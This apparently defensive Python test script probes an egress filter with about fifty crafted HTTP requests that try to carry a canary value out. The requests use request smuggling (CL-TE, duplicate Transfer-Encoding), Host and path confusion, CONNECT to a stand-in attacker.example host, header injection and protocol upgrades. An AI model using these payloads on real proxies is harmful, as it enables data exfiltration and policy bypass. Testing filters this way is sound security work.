"""HTTP on the allowed connection: http.py VARIANT. The path /ok/... with GET is what the policy allows, so that each
variant is wrong in one thing only."""

import base64
import os
import sys

from common import *

variant = sys.argv[1]
HOST = f"Host: {ALLOWED}\r\n"
OTHER = "Host: other.attacker.example\r\n"
FIRST = f"GET /ok/first HTTP/1.1\r\n{HOST}\r\n"
INNER = f"GET /{CANARY} HTTP/1.1\r\n{HOST}\r\n"


def chunk(text):
    return f"{len(text):x}\r\n{text}\r\n"


def websocket_frame():
    mask = os.urandom(4)
    return b"\x82" + bytes([0x80 | len(BYTES)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(BYTES))


UPGRADE = f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n"

# Each variant: the messages in order; the answer to one is read before the next goes.
VARIANTS = {
    "other-host": [f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "second-other-host": [FIRST, f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "pipelined-other-host": [FIRST + f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "second-other-path": [FIRST, INNER],
    "two-hosts": [f"GET /ok/{CANARY} HTTP/1.1\r\n{HOST}{OTHER}\r\n"],
    "two-hosts-reversed": [f"GET /ok/{CANARY} HTTP/1.1\r\n{OTHER}{HOST}\r\n"],
    "no-host": [f"GET /ok/{CANARY} HTTP/1.1\r\n\r\n"],
    "host-port": [f"GET /ok/{CANARY} HTTP/1.1\r\nHost: {ALLOWED}:8443\r\n\r\n"],
    "host-userinfo": [f"GET /ok/{CANARY} HTTP/1.1\r\nHost: other.attacker.example@{ALLOWED}\r\n\r\n"],
    "absolute-form": [f"GET https://other.attacker.example/ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "absolute-form-http": [f"GET http://{ALLOWED}/ok/{CANARY} HTTP/1.1\r\n{OTHER}\r\n"],
    "method": [f"POST /ok/{CANARY} HTTP/1.1\r\n{HOST}Content-Length: 0\r\n\r\n"],
    "method-override": [f"{CANARY.upper()} /ok/x HTTP/1.1\r\n{HOST}\r\n"],
    "path": [INNER],
    "path-dots": [f"GET /ok/../{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-encoded-dots": [f"GET /ok/%2e%2e/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-double-encoded": [f"GET /ok/%252e%252e%252f{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-backslash": [f"GET /ok/..\\{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "path-fragment": [f"GET /ok/x#{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "connect": [f"CONNECT {CANARY}.attacker.example:443 HTTP/1.1\r\nHost: {CANARY}.attacker.example:443\r\n\r\n"],
    "trace": [f"TRACE /ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "cl-te": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: {len(INNER) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{INNER}"],
    "te-twice": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n{chunk(INNER)}0\r\n\r\n"],
    "te-space": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding : chunked\r\nContent-Length: {len(INNER)}\r\n\r\n{INNER}"],
    "te-unknown": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: xchunked\r\nContent-Length: {len(INNER)}\r\n\r\n{INNER}"],
    "cl-twice": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: 0\r\nContent-Length: {len(INNER)}\r\n\r\n{INNER}"],
    "cl-sign": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: +{len(INNER)}\r\n\r\n{INNER}"],
    "cl-list": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Content-Length: {len(INNER)}, {len(INNER)}\r\n\r\n{INNER}"],
    "obs-fold": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X-A: b\r\n {CANARY}\r\n\r\n"],
    "nul-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X-A: b\0{CANARY}\r\n\r\n"],
    "cr-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X-A: b\rX-B: {CANARY}\r\n\r\n"],
    "header-name": [f"GET /ok/1 HTTP/1.1\r\n{HOST}X({CANARY}): b\r\n\r\n"],
    "chunk-extension": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n3;{CANARY}={CANARY}\r\nabc\r\n0\r\n\r\n"],
    "chunk-size": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n\r\n0x3\r\n{CANARY}\r\n0\r\n\r\n"],
    "trailer": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n3\r\nabc\r\n0\r\nX-T: {CANARY}\r\n\r\n"],
    "hop-by-hop": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: X-Hop\r\nX-Hop: {CANARY}\r\nKeep-Alive: {CANARY}\r\n\r\n"],
    "proxy-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Proxy-Authorization: Basic {CANARY}\r\nProxy-Connection: {CANARY}\r\n\r\n"],
    "te-header": [f"GET /ok/1 HTTP/1.1\r\n{HOST}TE: {CANARY}\r\n\r\n"],
    "upgrade-h2c": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: {CANARY}\r\n\r\n"],
    "upgrade-unknown": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: Upgrade\r\nUpgrade: {CANARY}\r\n\r\n" + CANARY],
    "websocket-path": [f"GET /{CANARY} HTTP/1.1\r\n{HOST}{UPGRADE}\r\n", websocket_frame()],
    "http2-preface": ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0" + CANARY],
    "http-0.9": [f"GET /ok/{CANARY}\r\n"],
    "http-1.2": [f"GET /ok/{CANARY} HTTP/1.2\r\n{HOST}\r\n"],
    "http-10-no-host": [f"GET /ok/{CANARY} HTTP/1.0\r\n\r\n"],
    "after-close": [f"GET /ok/1 HTTP/1.1\r\n{HOST}Connection: close\r\n\r\n{CANARY}"],
    "body-of-nothing": [FIRST + CANARY],
    "doh-get": [f"GET /ok/dns-query?dns={CANARY} HTTP/1.1\r\n{HOST}Accept: application/dns-message\r\n\r\n"],
    "plain-on-443": [f"GET /ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
    "plain-on-80": [f"GET /ok/{CANARY} HTTP/1.1\r\n{HOST}\r\n"],
}


def run():
    sock = connect_name(ALLOWED, 80 if variant == "plain-on-80" else 443)
    if not variant.startswith("plain-on"):
        sock = tls(sock, ALLOWED)
    with sock:
        for message in VARIANTS[variant]:
            sock.sendall(message if isinstance(message, bytes) else message.encode("latin-1"))
            notes.append(drain(sock)[:160].decode("latin-1"))


attempt(variant, run)
finish()
